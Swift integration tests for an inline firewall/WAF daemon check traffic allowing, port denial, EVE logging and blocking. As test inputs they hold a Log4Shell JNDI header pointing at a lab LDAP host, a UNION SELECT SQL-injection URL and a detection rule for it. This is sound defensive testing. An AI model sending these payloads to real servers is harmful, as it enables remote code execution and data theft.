#if os(Linux)
import Foundation
import XCTest

/// `sluice run` inline between a client and a server namespace, enforcing a protect policy.
final class InlineTests: XCTestCase {
    /// HTTP (v4 and v6), DNS over UDP and TCP and TLS the policy allows pass end to end, and
    /// EVE has their http, dns and tls records and no deny.
    func testAllowedTrafficPassesAndIsLogged() throws {
        let bed = try Bed()
        defer { bed.tearDown() }
        try bed.startHTTP()
        try bed.startDNS()
        try bed.startTLS()
        try bed.write("policy.yaml", protectPolicy())
        let sluice = try Daemon(bed, interfaces: [inlinePair])

        let v4 = bed.curl("http://10.98.0.2/hello.txt")
        expect(v4.status == 0 && v4.output.contains("hello through sluice"), "curl v4: \(v4)", sluice)
        let v6 = bed.curl("http://[fd98::2]/hello.txt", "-6")
        expect(v6.status == 0 && v6.output.contains("hello through sluice"), "curl v6: \(v6)", sluice)
        let udp = bed.dig("www.example.test")
        expect(udp.status == 0 && udp.output.contains("10.98.0.2"), "dig udp: \(udp)", sluice)
        let tcp = bed.dig("api.example.test", "+tcp")
        expect(tcp.status == 0 && tcp.output.contains("10.98.0.2"), "dig tcp: \(tcp)", sluice)
        let tls = bed.tlsGet()
        expect(tls.output.contains("200 ok"), "openssl s_client: \(tls)", sluice)

        XCTAssertEqual(sluice.stop(), 0, "exit status; log:\n\(sluice.log)")
        let http = sluice.records("http")
        expect(http.contains { field($0, "dest_ip") == "10.98.0.2" && field($0, "http", "url") == "/hello.txt" },
               "no http record for the v4 GET: \(http)", sluice)
        expect(http.contains { field($0, "dest_ip") == "fd98:0000:0000:0000:0000:0000:0000:0002" },
               "no http record for the v6 GET: \(http)", sluice)
        let dns = sluice.records("dns")
        expect(dns.contains { field($0, "proto") == "UDP" && field($0, "dns", "rrname") == "www.example.test" },
               "no UDP dns record: \(dns)", sluice)
        expect(dns.contains { field($0, "proto") == "TCP" && field($0, "dns", "rrname") == "api.example.test" },
               "no TCP dns record: \(dns)", sluice)
        let tlsRecords = sluice.records("tls")
        expect(tlsRecords.contains { field($0, "tls", "sni") == "www.example.test" }, "no tls record: \(tlsRecords)", sluice)
        let denies = sluice.records("policy").filter { sluiceField($0, "policy", "action") == "deny" }
        expect(denies.isEmpty, "allowed traffic was denied: \(denies)", sluice)
    }

    /// A TCP port the policy does not allow fails the way a firewall that rejects makes it
    /// fail: curl gets a reset answering its SYN (exit 7) at once, the server sees nothing, and EVE has a
    /// `policy` deny record for exactly that 5-tuple. The allowed port keeps working.
    func testDeniedPortIsResetAndLogged() throws {
        let bed = try Bed()
        defer { bed.tearDown() }
        try bed.startHTTP()
        let other = try bed.startHTTP(port: 8080)
        try bed.write("policy.yaml", protectPolicy())
        let sluice = try Daemon(bed, interfaces: [inlinePair])

        let ok = bed.curl("http://10.98.0.2/hello.txt")
        expect(ok.status == 0, "allowed port: \(ok)", sluice)
        let denied = bed.curl("http://10.98.0.2:8080/hello.txt", "--local-port 41234")
        // No rule can allow tcp/8080, so the SYN itself is denied and answered with a reset:
        // curl exit 7 (connection refused), at once. 28 would mean a silent drop (timeout),
        // 56 a reset only after the handshake.
        expect(denied.status == 7,
               "denied port: expected a reset answering the SYN (curl exit 7), got exit \(denied.status) after \(denied.seconds) s: \(denied.output)", sluice)
        print("denied port: curl exit \(denied.status) after \(String(format: "%.3f", denied.seconds)) s")
        expect(denied.seconds < 2.5, "the reset took \(denied.seconds) s", sluice)
        usleep(200_000)
        expect(!other.text.contains("GET"), "the server on 8080 got the request: \(other.text)", sluice)

        XCTAssertEqual(sluice.stop(), 0, "exit status; log:\n\(sluice.log)")
        let policy = sluice.records("policy")
        expect(policy.contains {
            sluiceField($0, "policy", "action") == "deny" && field($0, "proto") == "TCP"
                && field($0, "src_ip") == "10.98.0.1" && field($0, "src_port") == "41234"
                && field($0, "dest_ip") == "10.98.0.2" && field($0, "dest_port") == "8080"
        }, "no policy deny record for 10.98.0.1:41234 -> 10.98.0.2:8080: \(policy)", sluice)
        expect(!policy.contains { field($0, "dest_port") == "80" && sluiceField($0, "policy", "action") == "deny" },
               "the allowed port was denied: \(policy)", sluice)
    }

    /// A `block` sensor rule stops a SQL-injection request after the handshake: curl gets a
    /// reset or an empty reply, the server never logs the request, EVE has the alert with
    /// action `blocked`. A Log4Shell header only alerts (waf-core, `allowed`) and is served.
    func testWafBlockResetsMidConnection() throws {
        let bed = try Bed()
        defer { bed.tearDown() }
        let web = try bed.startHTTP()
        try bed.write("waf-block.yaml", wafBlockSensor)
        try bed.write("policy.yaml", protectPolicy(sensors: ["waf-core", "waf-block"]))
        let sluice = try Daemon(bed, interfaces: [inlinePair], sensorFiles: ["waf-block.yaml"])

        let ok = bed.curl("http://10.98.0.2/hello.txt")
        expect(ok.status == 0, "benign request: \(ok)", sluice)
        let jndi = bed.curl("http://10.98.0.2/hello.txt?log4j=1", "-H 'X-Api-Version: ${jndi:ldap://10.98.0.1/a}'")
        expect(jndi.status == 0, "Log4Shell header (alert only) was not served: \(jndi)", sluice)
        let attack = bed.curl("http://10.98.0.2/?q=1%27%20union%20select%20null--")
        // 56: connection reset while receiving; 52: empty reply (the connection closed).
        expect(attack.status == 56 || attack.status == 52,
               "attack: expected a reset or empty reply (curl 56 or 52), got exit \(attack.status): \(attack.output)", sluice)
        print("blocked attack: curl exit \(attack.status): \(attack.output)")
        usleep(300_000)
        expect(web.text.contains("GET /hello.txt "), "the server did not log the benign request: \(web.text)", sluice)
        expect(!web.text.lowercased().contains("union"), "the server logged the attack: \(web.text)", sluice)

        XCTAssertEqual(sluice.stop(), 0, "exit status; log:\n\(sluice.log)")
        let alerts = sluice.records("alert")
        expect(alerts.contains {
            field($0, "alert", "signature_id") == "9100001" && field($0, "alert", "action") == "blocked"
                && field($0, "alert", "category") == "waf-block"
        }, "no blocked alert 9100001: \(alerts)", sluice)
        expect(alerts.contains {
            field($0, "alert", "category") == "waf-core" && field($0, "alert", "action") == "allowed"
                && (field($0, "http", "url")?.contains("log4j") == true || field($0, "payload_printable")?.contains("jndi") == true)
        }, "no allowed waf-core alert for the Log4Shell header: \(alerts)", sluice)
    }
}

/// A sensor set with one `block` rule: UNION SELECT in the URL.
let wafBlockSensor = """
sensors:
  - name: waf-block
    rules:
      - id: 9100001
        name: "Test: SQL injection UNION SELECT in the URL is blocked"
        context: url
        patterns: ['\\bunion\\b\\s+select\\b']
        nocase: true
        severity: 1
        action: block

"""
#endif
